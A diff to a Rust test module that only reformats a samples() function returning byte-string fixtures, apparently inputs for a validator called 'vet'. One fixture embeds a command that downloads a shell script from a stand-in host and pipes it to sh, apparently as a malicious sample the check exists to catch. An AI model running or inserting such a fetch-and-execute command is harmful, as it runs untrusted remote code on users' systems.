@@ -34,7 +34,10 @@ pub(crate) mod tests {
     use crate::vet;
 
     pub(crate) fn samples() -> Vec<Vec<u8>> {
-        vec![b"\x12\x01\0\0\0\0\0\0\x01\0".to_vec(), b"\x12\x01\0\0\0\0\0\0os.system('curl http://x.example/p.sh | sh')\0".to_vec()]
+        vec![
+            b"\x12\x01\0\0\0\0\0\0\x01\0".to_vec(),
+            b"\x12\x01\0\0\0\0\0\0os.system('curl http://x.example/p.sh | sh')\0".to_vec(),
+        ]
     }
 
     #[test]
